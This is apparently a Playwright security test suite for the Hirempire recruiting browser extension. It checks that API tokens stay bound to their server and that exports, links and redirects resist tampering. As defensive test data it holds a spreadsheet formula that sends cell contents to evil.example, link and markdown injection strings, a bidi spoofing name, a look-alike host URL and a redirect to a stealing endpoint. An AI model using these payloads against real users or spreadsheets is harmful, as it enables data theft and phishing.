import type { BrowserContext } from '@playwright/test';
import { lookUp, row } from './popup-page';
import { API_ORIGIN, expect, sendFromExtensionPage, test } from './fixtures';
import { HirempireContract } from '../api/contract';
import { DEMO_TOKEN, EXAMPLE_JOB_ID } from '../api/seed';
import {
  allowHostInBrowserSettings,
  chooseImportFile,
  hostPermitted,
  openOptions,
  routeCustomHost,
  saveTokenThroughPage,
  section,
  setupState,
} from './options-page';

declare const chrome: any;

/**
 * Issue 16's attacks, each tried against the production build the way an attacker would, and
 * named after the attack. SECURITY.md lists each threat with the test here that proves its defence.
 */

/** A server that is not Hirempire's, answering like it (CORS included) and recording what it receives. */
const ROGUE_ORIGIN = 'https://hirempire-eu.example';

function rogueServer() {
  // Its own contract: it would accept our token, to prove it never gets one.
  return new HirempireContract({ tokens: [DEMO_TOKEN, 'sk-rogue-server-token'] });
}

/** Every request the rogue server received that carried a bearer token. */
const tokensSeenBy = (rogue: HirempireContract) => rogue.requests.map((r) => r.headers.authorization).filter(Boolean);

const sameBoards = { linkedin: { enabled: true, sourceName: 'LinkedIn' }, indeed: { enabled: true, sourceName: 'Indeed' } };

test.beforeEach(async ({ context, extensionUrl }) => {
  // The worker opens the options page on install; let it settle before a test opens its own.
  await expect.poll(() => context.pages().some((p) => p.url() === extensionUrl('options.html'))).toBe(true);
});

test.describe('1. the token is bound to its server', () => {
  test('attack: a "team settings" file moves the server — the saved token is never sent there', async ({
    context,
    extensionUrl,
    extensionId,
    connect,
  }) => {
    const rogue = rogueServer();
    await routeCustomHost(context, rogue, ROGUE_ORIGIN);
    await connect();
    // The recruiter clicks "allow" on the browser's host prompt (headless: granted through the browser's own settings).
    await allowHostInBrowserSettings(context, extensionId, ROGUE_ORIGIN);
    const page = await openOptions(context, extensionUrl);

    const file = { format: 'hirempire-extension-settings', version: 1, settings: { apiBaseUrl: ROGUE_ORIGIN, boards: sameBoards } };
    await chooseImportFile(page, 'team-settings.json', JSON.stringify(file));
    const backup = section(page, 'Backup');
    const preview = backup.getByRole('group', { name: /team-settings\.json/ });
    // The preview states the change of server and that the token must be entered again.
    await expect(preview.getByTestId('import-server-change')).toHaveText(`API server changes: ${API_ORIGIN} → ${ROGUE_ORIGIN}`);
    await expect(preview).toContainText(`the API token saved for ${API_ORIGIN} will be forgotten`);
    await expect(preview).not.toContainText('Your API token stays as it is');
    await preview.getByRole('button', { name: 'Import these settings' }).click();
    await expect(backup.getByRole('status')).toContainText(`The extension now uses ${ROGUE_ORIGIN}: paste your token for it`);

    // Check again, look up a job, open the popup: nothing makes the old token travel.
    await expect(page.getByTestId('token-status')).toContainText('Not set up');
    await sendFromExtensionPage(page, { type: 'token.check' });
    await sendFromExtensionPage(page, { type: 'sources.fetch', jobId: EXAMPLE_JOB_ID });
    expect(tokensSeenBy(rogue)).toEqual([]);
    expect((await setupState(page)).token.state).toBe('none');
  });

  test('attack: the server is changed under Advanced — the saved token is forgotten, not re-checked there', async ({
    context,
    extensionUrl,
    extensionId,
    connect,
  }) => {
    const rogue = rogueServer();
    await routeCustomHost(context, rogue, ROGUE_ORIGIN);
    await connect();
    await allowHostInBrowserSettings(context, extensionId, ROGUE_ORIGIN);
    const page = await openOptions(context, extensionUrl);
    await page.getByLabel('API base URL').fill(ROGUE_ORIGIN);
    await section(page, 'Advanced').getByRole('button', { name: 'Save API base URL' }).click();
    await expect(section(page, 'Advanced').getByRole('status')).toContainText(`The token saved for ${API_ORIGIN} was forgotten`);
    await sendFromExtensionPage(page, { type: 'sources.fetch', jobId: EXAMPLE_JOB_ID });
    expect(tokensSeenBy(rogue)).toEqual([]);

    // Going back to the default server does not bring the token back either: it is pasted again, for that server.
    await section(page, 'Advanced').getByRole('button', { name: 'Reset to default' }).click();
    await expect(section(page, 'Advanced').getByRole('status')).toContainText(`The extension now uses ${API_ORIGIN}`);
    expect((await setupState(page)).token.state).toBe('none');
  });

  test('attack: the same host on another port (https://api.hirempire.com:8443) — it needs the browser’s permission prompt', async ({
    context,
    extensionUrl,
    connect,
    strayRequests,
  }) => {
    await connect();
    const page = await openOptions(context, extensionUrl);
    const other = 'https://api.hirempire.com:8443';
    expect(await hostPermitted(page, other)).toBe(false);
    await page.getByLabel('API base URL').fill(other);
    await section(page, 'Advanced').getByRole('button', { name: 'Save API base URL' }).click();
    // The browser's prompt is open (headless Chromium cannot answer it): nothing is saved meanwhile.
    await expect(section(page, 'Advanced').getByRole('status')).toHaveText(`Saving… If your browser asks, allow the extension to reach ${other}.`);
    await expect(section(page, 'Advanced').getByRole('button', { name: 'Saving…' })).toBeVisible();
    expect((await setupState(page)).settings.apiBaseUrl).toBe(API_ORIGIN);
    expect((await setupState(page)).token.state).toBe('connected');
    expect(strayRequests.filter((r) => r.url.startsWith(other))).toEqual([]);
  });

  test('attack: a 401 from a server tells the recruiter to paste a new token — the banner, status and badge name that server', async ({
    context,
    extensionUrl,
    extensionId,
    worker,
  }) => {
    const rogue = rogueServer();
    await routeCustomHost(context, rogue, ROGUE_ORIGIN);
    await allowHostInBrowserSettings(context, extensionId, ROGUE_ORIGIN);
    const page = await openOptions(context, extensionUrl);
    await page.getByLabel('API base URL').fill(ROGUE_ORIGIN);
    await section(page, 'Advanced').getByRole('button', { name: 'Save API base URL' }).click();
    await expect(section(page, 'Advanced').getByRole('status')).toHaveText(`Saved. The extension now uses ${ROGUE_ORIGIN}.`);
    // The screen where a token is pasted names the server it goes to.
    await expect(page.getByTestId('token-status')).toContainText(`Server${ROGUE_ORIGIN}`);
    await saveTokenThroughPage(page, 'sk-rogue-server-token');

    // That server now refuses the token.
    rogue.tokens.clear();
    await sendFromExtensionPage(page, { type: 'jobs.open', jobId: EXAMPLE_JOB_ID });
    await sendFromExtensionPage(page, { type: 'sources.fetch', jobId: EXAMPLE_JOB_ID });
    const banner = page.getByTestId('invalid-token-banner');
    await expect(banner).toContainText(`${ROGUE_ORIGIN} no longer accepts your API token.`);
    await expect(page.getByTestId('token-status')).toContainText(ROGUE_ORIGIN);
    await expect.poll(() => worker.evaluate(() => chrome.action.getBadgeText({}))).toBe('!');
    expect(await worker.evaluate(() => chrome.action.getTitle({}))).toBe(
      `Hirempire: ${ROGUE_ORIGIN} did not accept your API token. Open the settings to paste a token for that server.`,
    );
  });

  test('attack: the settings change in another tab while a token is being pasted — the token is not sent to the new server', async ({
    context,
    extensionUrl,
    extensionId,
    api,
  }) => {
    const rogue = rogueServer();
    await routeCustomHost(context, rogue, ROGUE_ORIGIN);
    await allowHostInBrowserSettings(context, extensionId, ROGUE_ORIGIN);
    const page = await openOptions(context, extensionUrl);
    await expect(page.getByTestId('token-status')).toContainText(API_ORIGIN);
    // Another tab (or a script with the options page's rights) switches the server.
    const other = await openOptions(context, extensionUrl);
    await other.getByLabel('API base URL').fill(ROGUE_ORIGIN);
    await section(other, 'Advanced').getByRole('button', { name: 'Save API base URL' }).click();
    await expect(section(other, 'Advanced').getByRole('status')).toHaveText(`Saved. The extension now uses ${ROGUE_ORIGIN}.`);
    // The token the recruiter pastes for the default server, on a page that still named it, is refused unsent.
    const reply = await sendFromExtensionPage(page, { type: 'token.save', token: DEMO_TOKEN, origin: API_ORIGIN });
    expect(reply.value.rejected).toMatch(/^The server is no longer https:\/\/api\.hirempire\.com/);
    expect(tokensSeenBy(rogue)).toEqual([]);
    expect(api.requests).toEqual([]);
  });
});

test.describe('2. revoking the browser’s permission stops the token', () => {
  /** Takes a host's access away the way a recruiter does: the browser's own extension settings. */
  async function removeHostInBrowserSettings(context: BrowserContext, extensionId: string, origin: string) {
    const admin = await context.newPage();
    await admin.goto(`chrome://extensions/?id=${extensionId}`);
    await admin.evaluate(
      ([id, pattern]) => (globalThis as any).chrome.developerPrivate.removeHostPermission(id, pattern),
      [extensionId, `${origin}/*`],
    );
    await admin.close();
  }

  test('attack: a custom server that answers CORS permissively after its access was removed — it gets no token, and the extension goes back to the default server', async ({
    context,
    extensionUrl,
    extensionId,
  }) => {
    const rogue = rogueServer();
    await routeCustomHost(context, rogue, ROGUE_ORIGIN);
    await allowHostInBrowserSettings(context, extensionId, ROGUE_ORIGIN);
    const page = await openOptions(context, extensionUrl);
    await page.getByLabel('API base URL').fill(ROGUE_ORIGIN);
    await section(page, 'Advanced').getByRole('button', { name: 'Save API base URL' }).click();
    await expect(section(page, 'Advanced').getByRole('status')).toHaveText(`Saved. The extension now uses ${ROGUE_ORIGIN}.`);
    await saveTokenThroughPage(page, 'sk-rogue-server-token');
    await sendFromExtensionPage(page, { type: 'sources.fetch', jobId: EXAMPLE_JOB_ID });
    const seenBefore = tokensSeenBy(rogue).length;
    expect(seenBefore).toBeGreaterThan(0);

    await removeHostInBrowserSettings(context, extensionId, ROGUE_ORIGIN);
    expect(await hostPermitted(page, ROGUE_ORIGIN)).toBe(false);

    // The options page says what happened, and names both servers.
    const banner = page.getByTestId('host-access-lost-banner');
    await expect(banner).toHaveRole('alert');
    await expect(banner).toContainText(`Access to ${ROGUE_ORIGIN} was removed in your browser.`);
    await expect(banner).toContainText(`The extension went back to ${API_ORIGIN} and forgot the token saved for ${ROGUE_ORIGIN}.`);
    expect(await setupState(page)).toMatchObject({ settings: { apiBaseUrl: API_ORIGIN }, token: { state: 'none' } });

    // Lookups, checks: nothing more reaches the server whose access was removed.
    await sendFromExtensionPage(page, { type: 'sources.fetch', jobId: EXAMPLE_JOB_ID });
    await sendFromExtensionPage(page, { type: 'token.check' });
    expect(tokensSeenBy(rogue)).toHaveLength(seenBefore);
  });
});

test.describe('7. hostile source names in exports', () => {
  const HOSTILE_JOB = 'e5e5e5e5-0000-4000-8000-00000000e7e7';
  const names = {
    formula: 'Ops;=HYPERLINK("https://evil.example/steal?d="&A2;"Open");',
    link: 'Apply at www.evil.example/login or https://evil.example/x [here](https://evil.example)',
    mail: 'Write to jobs@evil.example',
    // Reads as "Referral ‮moc.live‬" in an e-mail: a right-to-left override and a zero-width space.
    bidi: 'Referral \u202Emoc.live\u202C\u200B team',
  };

  test('attack: source names that are formulas, links or bidi tricks — exported as plain text, never run or linked', async ({ api, connect, openPopup }) => {
    api.jobs.set(HOSTILE_JOB, {
      job_id: HOSTILE_JOB,
      title: 'Hostile names',
      sources: Object.values(names).map((name, i) => ({
        id: `hostile-${i}`,
        source_name: name,
        source_url: `https://jobs.hirempire.com/acme/hostile-${i}`,
        code: `h${i}`,
        visits: 10 - i,
        created_at: '2026-09-01T09:00:00.000Z',
      })),
    });
    await connect();
    const page = await openPopup();
    await lookUp(page, HOSTILE_JOB);
    await expect(page.getByRole('list', { name: 'Sources' }).getByRole('listitem')).toHaveCount(4);
    const copyAll = async (label: string) => {
      await page.getByRole('button', { name: 'Copy all' }).click();
      await page.getByRole('group', { name: 'Copy all as' }).getByRole('button', { name: label }).click();
      await expect(page.getByRole('button', { name: 'Copied all' })).toBeVisible();
      const text: string = await page.evaluate(() => navigator.clipboard.readText());
      await expect(page.getByRole('button', { name: 'Copy all' })).toBeVisible();
      return text;
    };
    const invisible = /[\u200B-\u200F\u202A-\u202E\u2066-\u2069]/;

    const csv = await copyAll('CSV');
    const rows = csv.split('\r\n').slice(1);
    // Every text cell quoted; the formula neutralised at the start and after each ";".
    expect(rows[0]).toBe(`"Ops;'=HYPERLINK(""https://evil.example/steal?d=""&A2;""Open"");",10,"29%","2026-09-01T09:00:00.000Z","https://jobs.hirempire.com/acme/hostile-0"`);
    for (const row of rows) expect(row).toMatch(/^"[^]*",\d+,"[^"]*","[^"]*","https:\/\/jobs\.hirempire\.com\/acme\/hostile-\d"$/);
    expect(csv).not.toMatch(invisible);

    const markdown = await copyAll('Markdown table');
    expect(markdown).toContain('Apply at www\\.evil.example/login or https\\://evil.example/x \\[here\\](https\\://evil.example)');
    expect(markdown).toContain('Write to jobs\\@evil.example');
    expect(markdown).not.toMatch(invisible);

    const text = await copyAll('Plain text');
    expect(text).toContain('Referral moc.live team');
    expect(text).not.toMatch(invisible);
  });
});

/** Serves one job with the given sources (as the API would send them) and looks it up in the popup. */
async function popupWithJob(
  api: HirempireContract,
  connect: () => Promise<void>,
  openPopup: () => Promise<import('@playwright/test').Page>,
  jobId: string,
  sources: Array<{ source_name: string; source_url: string; visits: number }>,
) {
  api.jobs.set(jobId, {
    job_id: jobId,
    title: 'Attack',
    sources: sources.map((s, i) => ({ id: `attack-${i}`, code: `a${i}`, created_at: '2026-09-01T09:00:00.000Z', ...s })),
  });
  await connect();
  const page = await openPopup();
  await lookUp(page, jobId);
  return page;
}

test('8. attack: a look-alike link (the real host hidden in subdomains and path) — the popup shows its real host', async ({ api, connect, openPopup }) => {
  const lookAlike = 'https://jobs.hirempire.com.evil.example/x/jobs.hirempire.com/acme/1a2b';
  const page = await popupWithJob(api, connect, openPopup, 'e8e8e8e8-0000-4000-8000-00000000e8e8', [
    { source_name: 'LinkedIn', source_url: lookAlike, visits: 3 },
  ]);
  const link = page.getByRole('list', { name: 'Sources' }).getByRole('link');
  await expect(link).toHaveAttribute('href', lookAlike);
  // What the recruiter reads names the host the link really goes to.
  await expect(link).toHaveText(/^…evil\.example\//);
  await expect(link).not.toHaveText(/^…hirempire\.com/);
});

test('9. attack: millions of junk rows ([0,0,0,…]) where the sources belong — refused without reading them, and the next lookup is answered', async ({
  api,
  connect,
  openPopup,
}) => {
  await connect();
  // 2 million rows (4 MB). The 24 MB is in tests/unit/api-client.test.ts: here the body
  // travels through Playwright's interception (base64 over CDP), whose cost is not the worker's.
  const junk = `{"success":true,"job_id":"${EXAMPLE_JOB_ID}","sources":[${'0,'.repeat(2_000_000)}0]}`;
  api.setFault({ kind: 'custom', status: 200, body: junk }, 1);
  const page = await openPopup();
  await lookUp(page, EXAMPLE_JOB_ID);
  await expect(page.getByRole('alert')).toContainText('Hirempire sent an answer the extension could not read');
  // The worker is not busy reading millions of rows: the very next lookup gets the real answer.
  // (How fast is measured by `npm run bench`, not asserted here.)
  await page.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
  await expect(row(page, 'LinkedIn')).toContainText('142 visits');
  await expect(page.getByRole('alert')).toHaveCount(0);
});

test('10. attack: the API answers with a redirect to another host — reported as a redirect, not followed, not retried', async ({
  api,
  connect,
  openPopup,
  strayRequests,
}) => {
  await connect();
  api.setFault({ kind: 'custom', status: 302, body: '', headers: { Location: 'https://evil.example/steal' } });
  const before = api.requests.length;
  const page = await openPopup();
  await lookUp(page, EXAMPLE_JOB_ID);
  await expect(page.getByRole('alert')).toContainText('answered with a redirect to another address');
  await expect(page.getByRole('alert').getByRole('button', { name: 'Open settings' })).toBeVisible();
  expect(api.requests.length - before).toBe(1);
  expect(strayRequests.filter((r) => r.url.includes('evil.example'))).toEqual([]);
});

test('11. attack on attention: a partial answer (one unreadable row) — the recruiter is told through a live region', async ({
  api,
  connect,
  openPopup,
}) => {
  const page = await popupWithJob(api, connect, openPopup, 'e1e1e1e1-0000-4000-8000-00000000e1e1', [
    { source_name: 'LinkedIn', source_url: 'https://jobs.hirempire.com/acme/ok', visits: 3 },
    { source_name: 'Junk', source_url: 'https://jobs.hirempire.com/acme/junk', visits: -1 },
  ]);
  await expect(page.getByRole('status').filter({ hasText: '1 source sent by Hirempire could not be read and is not shown.' })).toBeVisible();

  // "Offline — as of …" after a failed refresh is announced too.
  api.setFault({ kind: 'network-error' });
  await page.getByRole('button', { name: 'Refresh' }).click();
  await expect(page.getByRole('status').filter({ hasText: /Offline — as of/ })).toBeVisible();
});
